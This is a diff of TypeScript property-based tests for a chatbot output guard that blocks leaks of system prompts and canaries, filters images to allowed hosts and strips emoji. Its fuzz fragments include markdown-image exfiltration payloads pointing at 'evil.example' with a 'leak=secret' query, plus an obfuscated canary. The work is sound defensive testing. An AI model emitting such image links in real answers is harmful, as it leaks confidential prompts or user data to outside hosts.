@@ -1,5 +1,7 @@
 /** The output guard: canary and prompt leaks refused, images only from allowed hosts, emoji per style, text held back only briefly. */
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { runs, squash } from "./leak-check";
 import { HOLDBACK_CHARS, OutputGuard, REFUSAL, type GuardOptions } from "./output-guard";
 
 const CONFIDENTIAL = [
@@ -106,4 +108,171 @@ describe("output guard", () => {
     expect(stream(text).guard.text).toBe("Great news the Arduino™ Uno ships today! © Acme");
     expect(stream(text, options({ emoji: "sometimes" })).guard.text).toBe(text);
   });
+
+  it("examines a long answer streamed in small pieces a bounded number of times per character, not once per piece", () => {
+    const answer = longAnswer(LONG_ANSWER_WORDS);
+    const guard = new OutputGuard(options());
+    let shown = "";
+    for (let i = 0, size = 1; i < answer.length; i += size, size = (size % 6) + 1) {
+      shown += guard.push(answer.slice(i, i + size));
+    }
+    shown += guard.end();
+    expect(shown).toBe(answer);
+    expect(guard.examined).toBeGreaterThanOrEqual(answer.length);
+    expect(guard.examined).toBeLessThanOrEqual(EXAMINED_PER_CHAR * answer.length);
+  });
 });
+
+// Fixed, so a run costs the same every time; a failure prints its seed for `fc.assert(…, { seed })`.
+const PROPERTY_RUNS = 400;
+const PIECE_SIZES = [1, 2, 3, 5, 8, 13];
+
+describe("output guard, streamed against the whole-answer check", () => {
+  it("shows exactly what checking the whole answer after every piece shows, however the answer is split", () => {
+    const confidentialWords = CONFIDENTIAL.split(/\s+/);
+    const fragment = fc.oneof(
+      fc.constantFrom(
+        CANARY,
+        CANARY.toUpperCase().split("").join(" "),
+        CANARY.slice(0, 7),
+        " ",
+        "\n",
+        ". ",
+        "!",
+        "![",
+        "](",
+        ")",
+        "<",
+        ">",
+        '"',
+        "'",
+        "’",
+        " 'ti)tle'",
+        ' "ti)tle"',
+        "![Shop logo](https://images.shop.example/logo.png)",
+        "![pixel](https://evil.example/p.png?leak=secret)",
+        '![titled](https://evil.example/t.png "ti)tle")',
+        "![a](<https://images.shop.example/a.png> 'x')",
+        "https://evil.example/p.png",
+        "🎉",
+        "👍🏽",
+        "👨‍👩‍👧",
+        "\u200d",
+        "\ufe0f",
+        "🏽",
+        "™",
+        "©",
+        "Σ",
+        "ΟΣ.",
+        "İ",
+        "e\u0301",
+        "\u0301",
+        "\u1100\u1161",
+        "\u11a8",
+        "don't",
+      ),
+      fc
+        .record({ from: fc.nat({ max: confidentialWords.length - 1 }), count: fc.integer({ min: 1, max: 12 }) })
+        .map(({ from, count }) => confidentialWords.slice(from, from + count).join(" ")),
+      fc.string({ maxLength: 6 }),
+      fc.string({ unit: "binary", maxLength: 4 }),
+      fc.string({ unit: fc.constantFrom(..."aΣς !['\n]().:é🎉\u0301\u200d"), maxLength: 8 }),
+    );
+    const answers = fc.array(fragment, { maxLength: 60 }).map((parts) => parts.join(""));
+    const guardOptions = fc.record({
+      canary: fc.constantFrom(CANARY, "ΣΑΣ", undefined),
+      emoji: fc.constantFrom("never" as const, "sometimes" as const),
+      quotable: fc.constantFrom("", CONFIDENTIAL.split("\n")[1] ?? ""),
+    });
+    const sizes = fc.array(fc.constantFrom(...PIECE_SIZES), { minLength: 1, maxLength: 8 });
+    fc.assert(
+      fc.property(answers, sizes, guardOptions, (answer, pieceSizes, overrides) => {
+        const pieces: string[] = [];
+        for (let i = 0, n = 0; i < answer.length; n++) {
+          const size = pieceSizes[n % pieceSizes.length] ?? 1;
+          pieces.push(answer.slice(i, i + size));
+          i += size;
+        }
+        const guard = new OutputGuard(options(overrides));
+        const streamed = [...pieces.map((piece) => guard.push(piece)), guard.end()];
+        const reference = wholeAnswerGuard(options(overrides), pieces);
+        expect({ shown: streamed, refused: guard.refused, text: guard.text }).toEqual(reference);
+      }),
+      { numRuns: PROPERTY_RUNS },
+    );
+  });
+});
+
+/**
+ * The guard as it was before it streamed incrementally, kept as the reference: after every piece
+ * it checks and cleans the whole answer so far, and shows the cleaned text up to the hold-back.
+ */
+function wholeAnswerGuard(
+  guardOptions: GuardOptions,
+  pieces: string[],
+): { shown: string[]; refused: boolean; text: string } {
+  const IMAGE = /!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+(?:"[^"]*"|'[^']*'))?\s*\)/g;
+  const UNCLOSED_IMAGE = /!\[[^\]\n]*(?:\](?:\([^)]*)?)?$/;
+  const EMOJI =
+    / ?(?![\u00a9\u00ae\u2122])\p{Extended_Pictographic}(?:\ufe0f|\u200d|\p{Emoji_Modifier}|\p{Extended_Pictographic})*/gu;
+  const quotable = runs(guardOptions.quotable ?? "");
+  const confidentialRuns = new Set([...runs(guardOptions.confidential)].filter((run) => !quotable.has(run)));
+  const canary = guardOptions.canary ? squash(guardOptions.canary) : null;
+  const leaks = (text: string) =>
+    (canary && squash(text).includes(canary)) || [...runs(text)].some((run) => confidentialRuns.has(run));
+  const allowed = (url: string) => {
+    try {
+      const parsed = new URL(url);
+      return parsed.protocol === "https:" && guardOptions.allowedImageHosts.includes(parsed.hostname.toLowerCase());
+    } catch {
+      return false;
+    }
+  };
+  const clean = (text: string) => {
+    const images = text.replace(IMAGE, (whole, _alt: string, url: string) => (allowed(url) ? whole : _alt));
+    return guardOptions.emoji === "never" ? images.replace(EMOJI, "") : images;
+  };
+  let raw = "";
+  let sent = 0;
+  let refused = false;
+  const release = (cleaned: string, upTo: number) => {
+    if (upTo <= sent) return "";
+    const out = cleaned.slice(sent, upTo);
+    sent = upTo;
+    return out;
+  };
+  const shown = pieces.map((piece) => {
+    if (refused) return "";
+    raw += piece;
+    if (leaks(raw)) {
+      refused = true;
+      return "";
+    }
+    const cleaned = clean(raw);
+    const unclosed = UNCLOSED_IMAGE.exec(cleaned)?.index ?? cleaned.length;
+    return release(cleaned, Math.min(unclosed, cleaned.length - HOLDBACK_CHARS));
+  });
+  const cleaned = clean(raw).trimEnd();
+  shown.push(refused ? "" : release(cleaned, cleaned.length));
+  return { shown, refused, text: refused ? REFUSAL : clean(raw).trim() };
+}
+
+// Enough words that re-scanning the answer on every piece costs hundreds of times its length.
+const LONG_ANSWER_WORDS = 1_500;
+// Each character is examined by a few passes (leak check, images, emoji, unclosed image) plus the short tail it sits in.
+const EXAMINED_PER_CHAR = 24;
+
+/** A deterministic answer of `count` words: sentences, paragraphs and an allowed image, no leaks. */
+function longAnswer(count: number): string {
+  const vocabulary = "refunds reach your card within five working days you can follow each order on its page".split(
+    " ",
+  );
+  const parts: string[] = [];
+  for (let i = 0; i < count; i++) {
+    parts.push(vocabulary[(i * 7 + (i >> 3)) % vocabulary.length] ?? "");
+    if (i % 12 === 11) parts.push(i % 60 === 59 ? ".\n\n" : ". ");
+    else if (i % 200 === 100) parts.push(" ![Order page](https://images.shop.example/orders.png) ");
+    else parts.push(" ");
+  }
+  return parts.join("").trim();
+}
